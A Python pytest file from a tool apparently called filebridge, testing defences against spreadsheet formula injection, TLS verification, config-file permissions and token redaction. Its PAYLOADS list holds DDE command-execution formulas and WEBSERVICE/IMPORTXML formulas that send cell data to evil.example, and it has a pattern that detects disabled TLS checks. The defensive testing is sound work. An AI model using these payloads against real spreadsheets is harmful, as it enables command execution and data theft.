"""Security review checks: formula injection in a real spreadsheet, TLS, config file, token.

* **Formula injection, proven with LibreOffice.** Exported files (CSV in the `default`
  and `german-excel` presets, and XLSX) holding every sandbox HOSTILE_STRINGS value and
  more payloads in every text and phone column are converted by `soffice --headless` to
  flat ODS, with formula evaluation switched ON for the CSV import (the worst setting a
  user can choose). The ODS must hold no `table:formula`, and every cell must show the
  text filebridge wrote (for CSV: its `'`-escaped form, which `unescape_csv_text`
  turns back into the customer's exact text). Skipped only when soffice is absent;
  install it with `apt-get install -y --no-install-recommends libreoffice-calc-nogui`.
* **TLS** is verified: a self-signed HTTPS server on loopback is refused before any
  request (and so before the token) is sent; trusting its certificate makes the same
  call go through; a trusted certificate for another host name is refused.
* **The config file** stays owner-only when `filebridge init --force` replaces a
  world-readable one (tests/test_scaffold.py covers a fresh init).
* **The token** is not in any repr, str or dump of Settings read from the file, nor in a
  ConfigError, its traceback, or what `check` and `status` print (test_cli.py and
  test_selldone.py cover logs, journal, result files and API errors).
"""

from __future__ import annotations

import os
import re
import shutil
import ssl
import stat
import subprocess
import sys
import threading
import traceback
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from filebridge.config import build_settings, load_settings
from filebridge.errors import ApiUnavailableError, AuthError, ConfigError
from filebridge.outbox.csv_stream import csv_cell_renderers
from filebridge.outbox.export import load_mapping
from filebridge.outbox.fields import ColumnKind
from filebridge.outbox.mapping import MappingSpec
from filebridge.outbox.writers import open_table_writer
from filebridge.sandbox import HOSTILE_STRINGS
from filebridge.scaffold import init_folder
from filebridge.selldone.client import SelldoneClient
from filebridge.tables.excel_safety import is_inert_phone, unescape_csv_text

ROOT = Path(__file__).parents[1]
PACKAGE = ROOT / "filebridge"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
OPENSSL = shutil.which("openssl")
TOKEN = "sEcReT-tOkEn-4242-zz"

# ---------------------------------------------------------- formula injection

# Payloads beyond the sandbox's: DDE, functions that call out, references, chained
# formulas, escapes that look escaped already, and a phone number (the one exception).
PAYLOADS = [
    *HOSTILE_STRINGS,
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A2)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "+SUM(1,1)",
    "-2+3",
    "=A1",
    "+A1",
    "-A1",
    "@A1",
    "=1/0",
    "=1+1;=2+2",
    "=1+1,=2+2",
    "=1+1\r\n=2+2",
    "\t+1",
    "'=already quoted",
    "''=twice",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    'DDE("cmd";"/C calc";"!A0")',
    "+49 30 5550123",
    "-12.50",
    "=",
    "-",
]


def hostile_rows(spec: MappingSpec) -> list[list[Any]]:
    """One row per payload, the payload in every text and phone column."""
    kinds = (ColumnKind.TEXT, ColumnKind.PHONE)
    return [[p if c.kind in kinds else None for c in spec.columns] for p in PAYLOADS]


ODS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}
TABLE, TEXT, OFFICE = (f"{{{ODS[k]}}}" for k in ("table", "text", "office"))


def paragraph_text(element: ElementTree.Element) -> str:
    """The text of an ODS paragraph, with its space, tab and line-break elements."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == TEXT + "s":
            parts.append(" " * int(child.get(TEXT + "c", "1")))
        elif child.tag == TEXT + "tab":
            parts.append("\t")
        elif child.tag == TEXT + "line-break":
            parts.append("\n")
        else:
            parts.append(paragraph_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def ods_cells(path: Path) -> tuple[list[list[tuple[str, str]]], int]:
    """(rows of (value type, shown text) of the first sheet, formula cells anywhere)."""
    root = ElementTree.parse(path).getroot()
    formulas = sum(1 for e in root.iter() if TABLE + "formula" in e.attrib)
    sheet = root.find(".//table:table", ODS)
    assert sheet is not None
    rows = []
    for row in sheet.iter(TABLE + "table-row"):
        cells: list[tuple[str, str]] = []
        for cell in row:
            if cell.tag != TABLE + "table-cell":
                continue
            repeat = min(int(cell.get(TABLE + "number-columns-repeated", "1")), 200)
            shown = "\n".join(paragraph_text(p) for p in cell.findall("text:p", ODS))
            cells += [(cell.get(OFFICE + "value-type", ""), shown)] * repeat
        rows.append(cells)
    return rows, formulas


def convert_to_fods(source: Path, profile: Path, infilter: str | None) -> Path:
    """Open `source` in LibreOffice (headless) and save it as flat ODS."""
    out = source.parent / "converted"
    command = [
        str(SOFFICE),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        str(source),
    ]
    if infilter is not None:
        command[4:4] = [f"--infilter={infilter}"]
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=180, check=False
    )
    target = out / (source.stem + ".fods")
    assert target.exists(), (done.returncode, done.stdout, done.stderr)
    return target


# CSV import options (LibreOffice "Filter Options for the CSV Filter"): separator,
# quote, UTF-8, from line 1, standard columns, language, quoted fields not forced to
# text, special numbers detected, …, sheet, and token 13: EVALUATE FORMULAS = true.
CSV_IMPORT = "CSV:{sep},34,76,1,,{lang},false,true,false,false,false,-1,true"
EXPORTS = {
    "default-csv": ("default", "csv", CSV_IMPORT.format(sep=44, lang=1033)),
    "german-excel-csv": ("german-excel", "csv", CSV_IMPORT.format(sep=59, lang=1031)),
    "default-xlsx": ("default", "xlsx", None),
}


@pytest.fixture(scope="module")
def soffice_profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("soffice-profile")


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice is not installed (apt-get install -y --no-install-recommends "
    "libreoffice-calc-nogui): the real-spreadsheet formula-injection check needs soffice",
)
@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_libreoffice_evaluates_no_formula_in_exported_files(
    tmp_path: Path, soffice_profile: Path, export: str
) -> None:
    """LibreOffice, formula evaluation on, opens every payload as the text we wrote."""
    preset, file_format, infilter = EXPORTS[export]
    spec = load_mapping(preset, ROOT)
    if file_format == "xlsx":
        spec = spec.with_format("xlsx")
    source = tmp_path / f"orders.{file_format}"
    with open_table_writer(source, spec) as writer:
        writer.write_rows(hostile_rows(spec))
    rows, formulas = ods_cells(convert_to_fods(source, soffice_profile, infilter))
    assert formulas == 0
    assert [text for _, text in rows[0][: len(spec.headers)]] == spec.headers
    renderers = csv_cell_renderers(spec)
    checked = 0
    for payload, row in zip(PAYLOADS, rows[1:], strict=False):
        for index, (column, (kind, shown)) in enumerate(
            zip(spec.columns, row, strict=False)
        ):
            if column.kind not in (ColumnKind.TEXT, ColumnKind.PHONE):
                continue
            checked += 1
            where = (column.header, payload, shown)
            if file_format == "xlsx":
                assert (kind, lines(shown)) == ("string", lines(payload)), where
                continue
            written = renderers[index](payload)
            assert unescape_csv_text(written) == payload
            if column.kind is ColumnKind.PHONE and is_inert_phone(payload):
                # The documented exception: a bare phone may show as a number.
                assert kind in ("string", "float"), where
            else:
                assert (kind, lines(shown)) == ("string", lines(written)), where
    text_kinds = (ColumnKind.TEXT, ColumnKind.PHONE)
    columns = [c for c in spec.columns if c.kind in text_kinds]
    assert checked == len(PAYLOADS) * len(columns)


def lines(text: str) -> str:
    """Text with every line break as LF (how a spreadsheet shows CR is not at stake)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_the_formula_detector_sees_an_unescaped_formula(
    tmp_path: Path, soffice_profile: Path
) -> None:
    """Control: the same LibreOffice import does evaluate `=1+1` written without escaping."""
    if SOFFICE is None:
        pytest.skip("LibreOffice is not installed (soffice)")
    source = tmp_path / "raw.csv"
    source.write_bytes(b"a,b\r\n=1+1,'=1+1\r\n")
    rows, formulas = ods_cells(
        convert_to_fods(source, soffice_profile, CSV_IMPORT.format(sep=44, lang=1033))
    )
    assert formulas == 1
    assert rows[1][:2] == [("float", "2"), ("string", "'=1+1")]


# ------------------------------------------------------------------------- TLS


class _Recorder(BaseHTTPRequestHandler):
    """Answers every GET with 401 and remembers the Authorization header it got."""

    def do_GET(self) -> None:
        self.server.seen.append(self.headers.get("Authorization"))  # type: ignore[attr-defined]
        body = b'{"error": true, "message": "Unauthenticated."}'
        self.send_response(401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        return


def make_certificate(folder: Path, name: str, san: str) -> tuple[Path, Path]:
    """A self-signed EC certificate and key made with the openssl command."""
    cert, key = folder / f"{name}.pem", folder / f"{name}.key"
    subprocess.run(
        [
            str(OPENSSL),
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            str(key),
            "-out",
            str(cert),
            "-days",
            "2",
            "-subj",
            f"/CN={name}",
            "-addext",
            f"subjectAltName={san}",
        ],
        capture_output=True,
        check=True,
        timeout=60,
    )
    return cert, key


@pytest.fixture
def tls_server(tmp_path: Path) -> Iterator[Any]:
    """An HTTPS server on 127.0.0.1 with a self-signed certificate for 127.0.0.1."""
    if OPENSSL is None:
        pytest.skip("the openssl command is needed to make a self-signed certificate")
    cert, key = make_certificate(tmp_path, "loopback", "IP:127.0.0.1")
    server = HTTPServer(("127.0.0.1", 0), _Recorder)
    server.seen = []  # type: ignore[attr-defined]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.cert = cert  # type: ignore[attr-defined]
    server.url = f"https://127.0.0.1:{server.server_address[1]}"  # type: ignore[attr-defined]
    server.handle_error = lambda request, address: None  # type: ignore[method-assign]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def test_tls_certificate_is_verified_before_the_token_is_sent(
    tls_server: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An untrusted certificate is refused with a TLS error; the token never leaves."""
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)
    with (
        SelldoneClient(tls_server.url, 7, TOKEN, timeout=5) as client,
        pytest.raises(ApiUnavailableError) as caught,
    ):
        client.get_order(1)
    assert "TLS" in caught.value.message
    assert tls_server.seen == []
    # Control: trusting the certificate lets the very same call through.
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tls_server.cert))
    with (
        SelldoneClient(tls_server.url, 7, TOKEN, timeout=5) as client,
        pytest.raises(AuthError),
    ):
        client.get_order(1)
    assert tls_server.seen == [f"Bearer {TOKEN}"]


def test_tls_host_name_is_verified(
    tls_server: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trusted certificate issued for another host name is refused too."""
    other, _ = make_certificate(tmp_path, "elsewhere", "DNS:elsewhere.example")
    bundle = tmp_path / "bundle.pem"
    bundle.write_bytes(other.read_bytes() + tls_server.cert.read_bytes())
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(bundle))
    url = tls_server.url.replace("127.0.0.1", "localhost")
    with (
        SelldoneClient(url, 7, TOKEN, timeout=5) as client,
        pytest.raises(ApiUnavailableError) as caught,
    ):
        client.get_order(1)
    assert "TLS" in caught.value.message
    assert tls_server.seen == []


INSECURE = re.compile(
    r"verify\s*=\s*False|\.verify\s*=|CERT_NONE|check_hostname\s*=\s*False"
    r"|_create_unverified_context|disable_warnings|InsecureRequestWarning"
)


def test_no_code_path_turns_tls_verification_off() -> None:
    """No module of the package (the sandbox aside) sets verify or weakens ssl."""
    found = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in sorted(PACKAGE.rglob("*.py"))
        if "sandbox" not in path.parts
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if INSECURE.search(line)
    ]
    assert found == []


def selldone(api_url: str) -> dict[str, Any]:
    return {"selldone": {"api_url": api_url, "shop_id": 7, "token": TOKEN}}


@pytest.mark.parametrize(
    "url",
    ["https://api.selldone.com", "http://127.0.0.1:8000", "http://localhost:8000"],
)
def test_https_and_loopback_http_api_urls_are_accepted(
    url: str, tmp_path: Path
) -> None:
    """The real API over HTTPS and the loopback sandbox over HTTP are valid api_urls."""
    settings = build_settings(selldone(url), base_dir=tmp_path, environ={})
    assert settings.selldone.api_url == url


@pytest.mark.parametrize("url", ["http://api.selldone.com", "http://10.0.0.5:8000"])
def test_plain_http_to_another_host_is_a_config_error(url: str, tmp_path: Path) -> None:
    """An http:// api_url that is not loopback is refused, naming selldone.api_url."""
    with pytest.raises(ConfigError) as caught:
        build_settings(selldone(url), base_dir=tmp_path, environ={})
    assert any(p.startswith("selldone.api_url:") for p in caught.value.problems)


# ------------------------------------------------------------------ config file


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_init_force_makes_an_existing_readable_config_owner_only(
    tmp_path: Path,
) -> None:
    """`filebridge init --force` over a world-readable config leaves it 0600."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "filebridge.toml").write_text("# an old config\n", encoding="utf-8")
    (site / "filebridge.toml").chmod(0o644)
    config = init_folder(site, shop_id=7, overwrite=True)
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert "shop_id = 7" in config.read_text(encoding="utf-8")


# ------------------------------------------------------------------------ token


def config_with_token(folder: Path, extra: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "filebridge.toml"
    path.write_text(
        f'[selldone]\nshop_id = 7\ntoken = "{TOKEN}"\n{extra}', encoding="utf-8"
    )
    return path


def test_file_token_is_in_no_repr_str_or_dump_of_the_settings(tmp_path: Path) -> None:
    """A token read from the config file prints as *** everywhere."""
    settings = load_settings(config_with_token(tmp_path), environ={})
    assert settings.selldone.token.get_secret_value() == TOKEN
    shown = [
        repr(settings),
        str(settings),
        repr(settings.selldone),
        str(settings.model_dump()),
        settings.model_dump_json(),
        str(settings.redacted()),
    ]
    assert [text for text in shown if TOKEN in text] == []


BROKEN_CONFIGS = {
    "missing-shop-id": f'[selldone]\ntoken = "{TOKEN}"\n',
    "token-not-a-string": f'[selldone]\nshop_id = 7\ntoken = ["{TOKEN}"]\n',
    "misspelt-key": f'[selldone]\nshop_id = 7\ntoken = "{TOKEN}"\ntokn = "{TOKEN}"\n',
    "bad-url": f'[selldone]\nshop_id = 7\ntoken = "{TOKEN}"\napi_url = "ftp://x"\n',
    "bad-toml": f'[selldone]\nshop_id = 7\ntoken = "{TOKEN}\n',
}


def config_error(tmp_path: Path, text: str) -> ConfigError:
    path = tmp_path / "filebridge.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_settings(path, environ={})
    return caught.value


@pytest.mark.parametrize("case", sorted(BROKEN_CONFIGS))
def test_config_errors_never_show_the_token(tmp_path: Path, case: str) -> None:
    """A config holding the token but wrong elsewhere: message, hint and repr hide it."""
    error = config_error(tmp_path, BROKEN_CONFIGS[case])
    texts = [str(error), repr(error), error.hint or "", *error.problems]
    assert [text for text in texts if TOKEN in text] == []


@pytest.mark.parametrize("case", ["missing-shop-id", "token-not-a-string"])
def test_config_error_tracebacks_never_show_the_token(
    tmp_path: Path, case: str
) -> None:
    """The full traceback of a ConfigError, its causes included, hides the token."""
    error = config_error(tmp_path, BROKEN_CONFIGS[case])
    assert TOKEN not in "".join(traceback.format_exception(error))


def filebridge(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SELLDONE_")}
    env["PYTHONPATH"] = str(ROOT)
    return subprocess.run(
        [sys.executable, "-m", "filebridge", *args],
        capture_output=True,
        text=True,
        timeout=90,
        env=env,
        cwd=cwd,
        check=False,
    )


def test_check_and_status_never_print_the_file_token(
    tmp_path: Path, sandbox: Any
) -> None:
    """`check` (failing on a wrong token) and `status` print no part of the token."""
    site = tmp_path / "site"
    init_folder(site, api_url=sandbox.url, shop_id=sandbox.shop_id)
    config = site / "filebridge.toml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text.replace('token = ""', f'token = "{TOKEN}"'), encoding="utf-8"
    )
    assert TOKEN in config.read_text(encoding="utf-8")
    checked = filebridge("-v", "check", "-c", str(config), cwd=tmp_path)
    assert checked.returncode == 3, checked.stdout + checked.stderr
    status = filebridge("status", "-c", str(config), cwd=tmp_path)
    assert status.returncode == 0, status.stdout + status.stderr
    printed = checked.stdout + checked.stderr + status.stdout + status.stderr
    assert TOKEN not in printed
    assert TOKEN[:12] not in printed
    for path in (site / "state").rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path
